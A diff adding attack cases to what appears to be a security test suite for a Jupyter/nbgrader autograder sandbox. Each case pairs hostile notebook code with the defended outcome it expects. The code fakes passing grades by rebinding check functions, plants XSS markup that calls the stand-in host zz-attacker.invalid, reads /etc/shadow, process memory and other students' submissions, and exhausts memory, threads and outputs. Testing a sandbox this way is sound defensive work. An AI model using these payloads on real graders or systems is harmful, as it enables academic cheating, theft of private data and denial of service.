@@ -1487,7 +1487,359 @@ for _zz_path in sorted(_zz_socks):
            "would not stop them)"),
 ]
 
-ATTACKS = HOOKS + JUDGE + FILES + PROCESSES + DISRUPTIVE + KILL
+# -- a third round (issue 17): points through what a cell displays, markup in the instructor's pages,
+# the instructor's environment, metadata as a path, secrets sent to the kernel, limits that did not
+# hold, a sandbox that saw too much. Placed in the runs above, so no class is graded more often. ----
+AFTER_LOOP = frozenset({"train_loop_tests", "train_accumulate_tests", "fit_line_tests", "dead_parameters_tests"})
+DEAD = frozenset({"dead_parameters_tests"})
+WRONG_DEAD = "def dead_parameters(model):\n    return []\n"
+REBIND = '''
+def _zz_value(*args, **kwargs):
+    return _zz_SHOWN
+for _zz_module_name, _zz_module in list(_zz_sys.modules.items()):
+    if _zz_module is None or _zz_module_name.split(".")[0] not in ("autograder", "lessons", "__main__"):
+        continue
+    for _zz_attr in list(vars(_zz_module)):
+        if _zz_attr.startswith("check_"):
+            setattr(_zz_module, _zz_attr, _zz_value)
+for _zz_attr in list(globals()):
+    if _zz_attr.startswith("check_"):
+        globals()[_zz_attr] = _zz_value
+'''
+BEACON = "//zz-attacker.invalid/"  # where a live script or markup would send its request
+
+PARTIAL_CREDIT = [
+    Attack("partial_credit_true", "hooks", {"train_loop": WRONG_LOOP + "_zz_SHOWN = True\n" + REBIND},
+           AFTER_LOOP, "every check_* name in the notebook and the grader's modules returns True, so each "
+           "later test cell shows `True` as its result (nbgrader reads a result it cannot read as a "
+           "number as full credit): the judge has no record of those cells: 0 on all four"),
+    Attack("partial_credit_number", "hooks", {"dead_parameters": WRONG_DEAD + "_zz_SHOWN = 2.0\n" + REBIND},
+           DEAD, "the checks return 2.0, the cell's full points, as a partial-credit result: 0"),
+    Attack("partial_credit_huge", "hooks", {"dead_parameters": WRONG_DEAD + "_zz_SHOWN = 1e9\n" + REBIND},
+           DEAD, "the checks return 1e9 as a partial-credit result: 0"),
+    Attack("partial_credit_appended", "hooks",
+           {"train_loop": WRONG_LOOP + '''
+def _zz_append_score(lines):
+    source = "".join(lines)
+    if "check_train" + "_loop(" in source:
+        body = "".join("    " + line for line in source.splitlines(True))
+        return ["try:\\n", body + "\\n", "except BaseException:\\n", "    pass\\n", "4\\n"]
+    return lines
+get_ipython().input_transformers_cleanup.append(_zz_append_score)
+'''},
+           LOOP, "an input transformer wraps the train_loop test cell in try/except and appends `4`, its "
+           "points, as the last expression: the checks ran and failed in the judge: 0"),
+]
+
+SCRIPT_OUTPUTS = (
+    "from IPython.display import display, HTML, Javascript, SVG, Latex, Markdown, IFrame\n"
+    "display(HTML(\"<script>fetch('" + BEACON + "s')</script><img src=x onerror=\\\"fetch('" + BEACON + "i')\\\">\"))\n"
+    "display(Javascript(\"fetch('" + BEACON + "js')\"))\n"
+    "display(SVG(\"<svg xmlns='http://www.w3.org/2000/svg' onload=\\\"fetch('" + BEACON + "svg')\\\"/>\"))\n"
+    "display(Latex(\"$\\\\href{javascript:fetch('" + BEACON + "tex')}{x}$\"))\n"
+    "display(Markdown(\"[x](javascript:fetch('" + BEACON + "md')) ![t](http:" + BEACON + "t.png)\"))\n"
+    "display(IFrame('http:" + BEACON + "frame', 10, 10))\n"
+    "display({'image/png': 'x\" onerror=\"fetch(`" + BEACON + "png`)', 'text/plain': 'img'}, raw=True)\n"
+    "display({'image/png': 'iVBORw0KGgo=', 'text/plain': 'sized'}, raw=True,\n"
+    "        metadata={'image/png': {'width': \"1 onerror=fetch('" + BEACON + "w')\"}})\n"
+    "display({'text/html': '<base href=\"http:" + BEACON + "\"><meta http-equiv=\"refresh\" content=\"0;url=http:"
+    + BEACON + "m\"><div style=\"background:url(http:" + BEACON + "c)\">css</div>', 'text/plain': 'h'}, raw=True)\n"
+    "import ipywidgets as _zz_widgets\n"
+    "display(_zz_widgets.HTML(\"<img src=x onerror=\\\"fetch('" + BEACON + "widget')\\\">\"))\n"
+)
+
+
+def _edit_markdown(nb):
+    """The title (a locked markdown cell) rewritten, and markdown and raw cells of its own, each
+    carrying markup that would run script or make a request if rendered; forged widget state."""
+    import nbformat
+
+    vectors = ["<script>fetch('" + BEACON + "md-script')</script>",
+               "<img src=x onerror=\"fetch('" + BEACON + "md-img')\">",
+               "[click](javascript:fetch('" + BEACON + "md-link'))",
+               "![tracker](http:" + BEACON + "md-track.png)",
+               "$\\href{javascript:fetch('" + BEACON + "md-tex')}{x}$",
+               "<iframe src='http:" + BEACON + "md-frame'></iframe>"]
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "title":
+            cell.source = "# Lesson 3\n" + "\n\n".join(vectors)
+    nb.cells.insert(1, nbformat.v4.new_markdown_cell("\n\n".join(vectors)))
+    raw = nbformat.v4.new_raw_cell("<script>fetch('" + BEACON + "raw')</script>")
+    raw.metadata["raw_mimetype"] = "text/html"
+    nb.cells.insert(2, raw)
+    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0,
+                              "state": {"zz": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
+                                               "model_module_version": "2.0.0",
+                                               "state": {"value": "<img src=x onerror=\"fetch('" + BEACON
+                                                         + "state')\">"}}}}}
+    return nb
+
+
+LIVE_MARKUP = [
+    Attack("displays_script", "files", {"fit_line": HONEST + SCRIPT_OUTPUTS},
+           NOTHING, "HTML with script and event handlers, JavaScript, SVG, LaTeX and Markdown with "
+           "javascript: links, an iframe, forged image data and size, <base>/<meta>/CSS url(), a widget: none "
+           "of it is live in the feedback page or the autograded notebook formgrader renders"),
+    Attack("writes_markup_in_markdown", "files", {}, NOTHING,
+           "script, event handlers, javascript: links, remote images, MathJax \\href and an iframe in a "
+           "locked markdown cell it rewrote, in markdown and raw cells of its own, and in forged widget "
+           "state: the locked cell comes back as the instructor wrote it, the student's own cells show "
+           "as text, the widget state is dropped", edit=_edit_markdown),
+]
+
+
+def _language_is_a_path(folder, paths) -> None:
+    """The notebook's language names a message file the student submitted, whose Quick Check
+    messages are 3 MB wide each."""
+    import json
+
+    (folder / "zz.toml").write_text('[quiz]\nwrong = "{question:>3000000}"\nwrong_revisit = "{question:>3000000}"\n'
+                                    '[judge]\nmalformed = "{x:>3000000}"\n')
+    path = folder / "03_zeroing_grad.ipynb"
+    nb = json.loads(path.read_text())
+    nb["metadata"]["autograd_lessons"] = {"language": str(folder / "zz")}
+    path.write_text(json.dumps(nb))
+
+
+def _language_is_not_a_string(nb):
+    nb.metadata["autograd_lessons"] = {"language": {"$ne": "{0:>99999999}"}}
+    for cell in nb.cells:
+        cell.metadata["autograder"] = {"verdict": {"ok": False, "mistake": "<script>zz</script>", "key": "x"}}
+        cell.metadata["tags"] = ["<img src=x onerror=\"fetch('" + BEACON + "tag')\">"]
+    return nb
+
+
+METADATA = [
+    Attack("language_is_a_path", "files", {"quick_check_answers": WRONG_QUIZ}, QUIZ,
+           "the notebook's language is the path of a .toml it submitted, with 3 MB format widths: the "
+           "language is one of the course's codes or English, so the grader's own messages are used and "
+           "what comes back stays small; its wrong answers cost their points",
+           files=_language_is_a_path),
+    Attack("language_is_not_a_string", "files", {}, NOTHING,
+           "a language that is a dict holding a format, forged verdicts and HTML tags in cell metadata: "
+           "English, and the forged metadata is gone", edit=_language_is_not_a_string),
+]
+
+ENVIRONMENT = [
+    Attack("reads_its_environment_block", "files",
+           {"fit_line": HONEST + '''
+for _zz_what in ("environ", "cmdline", "auxv"):
+    try:
+        with open("/proc/self/" + _zz_what, "rb") as _zz_f:
+            print(_zz_what, _zz_f.read().replace(b"\\x00", b"\\n").decode(errors="replace")[:20000])
+    except Exception as _zz_e:
+        print(_zz_what, type(_zz_e).__name__)
+'''},
+           NOTHING, "/proc/self/environ, cmdline and auxv (the exec-time block, inherited from the fork "
+           "server) hold nothing of the instructor's environment"),
+    Attack("scans_its_memory", "files",
+           {"fit_line": HONEST + '''
+import re as _zz_re
+_zz_seen, _zz_others = set(), set()
+try:
+    with open("/proc/self/maps") as _zz_maps, open("/proc/self/mem", "rb", 0) as _zz_mem:
+        for _zz_line in _zz_maps:
+            _zz_parts = _zz_line.split()
+            if not _zz_parts[1].startswith("rw") or (len(_zz_parts) > 5 and _zz_parts[5].startswith("[v")):
+                continue
+            _zz_start, _zz_end = (int(x, 16) for x in _zz_parts[0].split("-"))
+            for _zz_at in range(_zz_start, _zz_end, 2**24):
+                try:
+                    _zz_mem.seek(_zz_at)
+                    _zz_block = _zz_mem.read(min(2**24 + 200, _zz_end - _zz_at))
+                except Exception:
+                    continue
+                for _zz_hit in _zz_re.finditer(rb"canary-[a-z-]+-[0-9a-f]{16}", _zz_block):
+                    _zz_seen.add(_zz_hit.group().decode())
+                for _zz_hit in _zz_re.finditer(rb"/submitted/([A-Za-z0-9_.-]+)/03_zeroing_grad", _zz_block):
+                    _zz_others.add(_zz_hit.group(1).decode())
+except Exception as _zz_e:
+    print("memory", type(_zz_e).__name__)
+print(sorted(_zz_seen))
+_zz_others.discard("@STUDENT@")
+if _zz_others:
+    _zz_reached("other students' folder names in its memory: %s" % sorted(_zz_others))
+'''},
+           NOTHING, "the kernel's own memory (inherited from the fork server) holds no secret of the "
+           "instructor's, no hidden test and no other student's folder name"),
+    Attack("reads_the_exchange", "files",
+           {"fit_line": HONEST + '''
+for _zz_top in ("/usr/local/share/nbgrader/exchange", "/srv/nbgrader/exchange"):
+    try:
+        for _zz_dirpath, _zz_dirs, _zz_names in _zz_os.walk(_zz_top):
+            for _zz_n in _zz_names:
+                try:
+                    print(open(_zz_os.path.join(_zz_dirpath, _zz_n), errors="replace").read()[:2000])
+                    _zz_reached("read the exchange: " + _zz_os.path.join(_zz_dirpath, _zz_n))
+                except Exception:
+                    pass
+    except Exception:
+        pass
+'''},
+           NOTHING, "nbgrader's exchange (every student's submissions and feedback) cannot be read"),
+    Attack("lists_the_system", "files",
+           {"fit_line": HONEST + '''
+for _zz_top in ("/usr", "/usr/local", "/usr/share", "/etc", "/home", "/root", "/var", "/opt", "/srv", "/"):
+    try:
+        print(_zz_top, sorted(_zz_os.listdir(_zz_top))[:50])
+        _zz_reached("listed " + _zz_top)
+    except Exception:
+        pass
+for _zz_file in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/ssh/ssh_config"):
+    try:
+        print(open(_zz_file).read()[:500])
+        _zz_reached("read " + _zz_file)
+    except Exception:
+        pass
+'''},
+           NOTHING, "no system folder can be listed and no system configuration read (the kernel reads its "
+           "Python and its libraries, nothing else)"),
+]
+
+LIMITS = [
+    Attack("memfd_pins_memory", "processes",
+           {"fit_line": HONEST + '''
+_zz_pinned = 0
+try:
+    _zz_fd = _zz_os.memfd_create("zz")
+    for _ in range(24):
+        _zz_os.posix_fallocate(_zz_fd, _zz_pinned, 100 * 2**20)
+        _zz_pinned += 100 * 2**20
+except Exception as _zz_e:
+    print("memfd:", type(_zz_e).__name__)
+if _zz_pinned >= 2 * 2**30:
+    _zz_reached("%.1f GB pinned in a memfd" % (_zz_pinned / 2**30))
+'''},
+           NOTHING, "memfd_create + posix_fallocate cannot pin 2.4 GB past the memory limit (memory no "
+           "process's size shows)"),
+    Attack("memfd_through_ctypes", "processes",
+           {"fit_line": HONEST + '''
+_zz_fd = _zz_libc().syscall(319 if _zz_os.uname().machine == "x86_64" else 279, b"zz", 0)
+if _zz_fd >= 0:
+    _zz_reached("memfd_create through ctypes")
+_zz_shm = _zz_libc().shmget(0, 2**30, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
+if _zz_shm >= 0:
+    _zz_reached("a System V shared memory segment")
+'''},
+           NOTHING, "memfd_create through ctypes.syscall, and System V shared memory, are refused too"),
+    Attack("thread_bomb", "processes",
+           {"fit_line": HONEST + '''
+import threading as _zz_t
+_zz_stop, _zz_made = _zz_t.Event(), []
+try:
+    for _ in range(3000):
+        _zz_thread = _zz_t.Thread(target=_zz_stop.wait, daemon=True)
+        _zz_thread.start()
+        _zz_made.append(_zz_thread)
+except Exception as _zz_e:
+    print("threads:", len(_zz_made), type(_zz_e).__name__)
+if len(_zz_made) >= 1000:
+    _zz_reached("%d threads" % len(_zz_made))
+_zz_stop.set()
+for _zz_thread in _zz_made:
+    _zz_thread.join()
+'''},
+           NOTHING, "a kernel cannot start thousands of threads (a per-kernel limit of processes and "
+           "threads); its later cells still run"),
+    Attack("many_outputs_under_the_cap", "processes",
+           {"fit_line": HONEST + '''
+import sys as _zz_s
+for _zz_i in range(300):
+    print("x" * 99_999)
+    _zz_s.stdout.flush()
+    display({"text/plain": "y" * 99_999}, raw=True)
+'''},
+           NOTHING, "600 outputs just under the per-output cap: the notebook's output budget keeps what "
+           "comes back small"),
+    Attack("many_tiny_outputs", "processes",
+           {"fit_line": HONEST + '''
+for _zz_i in range(30_000):
+    print("x", flush=True)
+'''},
+           NOTHING, "30 000 outputs of one character: the budget counts each output, so the notebook keeps "
+           "a bounded number of them"),
+    Attack("control_thread_capabilities", "processes",
+           {"fit_line": HONEST + '''
+import socket as _zz_socket
+_zz_done = _zz_threading.Event()
+def _zz_on_control():
+    try:
+        with open("/proc/thread-self/status") as _zz_f:
+            _zz_caps = [l.split()[1] for l in _zz_f if l.startswith(("CapEff", "CapPrm", "CapBnd"))]
+        if any(int(c, 16) for c in _zz_caps):
+            _zz_reached("capabilities on the control thread: %s" % _zz_caps)
+        for _zz_family, _zz_kind in ((_zz_socket.AF_PACKET, _zz_socket.SOCK_RAW), (40, _zz_socket.SOCK_STREAM)):
+            try:
+                _zz_socket.socket(_zz_family, _zz_kind).close()
+                _zz_reached("a socket of family %d on the control thread" % _zz_family)
+            except Exception:
+                pass
+    finally:
+        _zz_done.set()
+try:
+    get_ipython().kernel.control_thread.io_loop.add_callback(_zz_on_control)
+    _zz_done.wait(10)
+except Exception as _zz_e:
+    print("control thread:", type(_zz_e).__name__)
+'''},
+           NOTHING, "code run on ipykernel's control thread (started before the student's code) has no "
+           "capability and cannot open a raw packet or vsock socket"),
+    Attack("odd_socket_families", "processes",
+           {"fit_line": HONEST + '''
+import socket as _zz_socket
+for _zz_family, _zz_kind in ((40, _zz_socket.SOCK_STREAM), (_zz_socket.AF_NETLINK, _zz_socket.SOCK_RAW),
+                             (_zz_socket.AF_PACKET, _zz_socket.SOCK_RAW), (38, _zz_socket.SOCK_SEQPACKET),
+                             (_zz_socket.AF_INET, _zz_socket.SOCK_DGRAM), (_zz_socket.AF_INET6, _zz_socket.SOCK_DGRAM)):
+    try:
+        _zz_socket.socket(_zz_family, _zz_kind).close()
+        _zz_reached("a socket of family %d" % _zz_family)
+    except Exception:
+        pass
+'''},
+           NOTHING, "no socket of any family can be made (vsock, netlink, packet, crypto, UDP)"),
+]
+
+SECRETS = [
+    Attack("records_every_cell_it_sees", "judge",
+           {"quick_check_answers": WRONG_QUIZ + '''
+_zz_sources = []
+def _zz_record_lines(lines):
+    _zz_sources.append("".join(lines))
+    return lines
+def _zz_record_info(info):
+    _zz_sources.append(getattr(info, "raw_cell", ""))
+def _zz_trace(frame, event, arg):
+    if frame.f_code.co_filename.startswith("<ipython-input") or "ipykernel_" in frame.f_code.co_filename:
+        import linecache
+        _zz_sources.append("".join(linecache.getlines(frame.f_code.co_filename)))
+get_ipython().input_transformers_cleanup.append(_zz_record_lines)
+get_ipython().events.register("pre_run_cell", _zz_record_info)
+_zz_sys.setprofile(_zz_trace)
+''', "train_loop": HONEST + '''
+_zz_sys.setprofile(None)
+print("\\n----\\n".join(sorted(set(_zz_sources + list(In)))))
+'''},
+           QUIZ, "a transformer, a pre_run_cell hook and a profile function record every cell the kernel "
+           "runs, and a later cell prints them into its feedback: the hidden tests arrive without their "
+           "keys (and comments), so there is nothing to share; its wrong answers cost their points"),
+    Attack("floods_the_judge", "judge",
+           {"dead_parameters": HONEST + '''
+_zz_line = b'{"op": "report", "token": "' + b"x" * (60 * 2**20) + b'"}\\n'
+for _zz_fd in _zz_judge_fds():
+    for _ in range(2):
+        try:
+            _zz_send(_zz_fd, _zz_line, timeout=20)
+        except Exception:
+            break
+'''},
+           DEAD, "two 60 MB lines on its judge connection: the judge stops reading this kernel past its "
+           "budget (its own later check has no record: 0); nobody else waits"),
+]
+
+THIRD_ROUND = PARTIAL_CREDIT + LIVE_MARKUP + METADATA + ENVIRONMENT + LIMITS + SECRETS
+
+
+ATTACKS = HOOKS + JUDGE + FILES + PROCESSES + DISRUPTIVE + KILL + THIRD_ROUND
 BY_NAME = {a.name: a for a in ATTACKS}
 RUNS = sorted({a.run for a in ATTACKS}, key=[a.run for a in ATTACKS].index)
 assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"
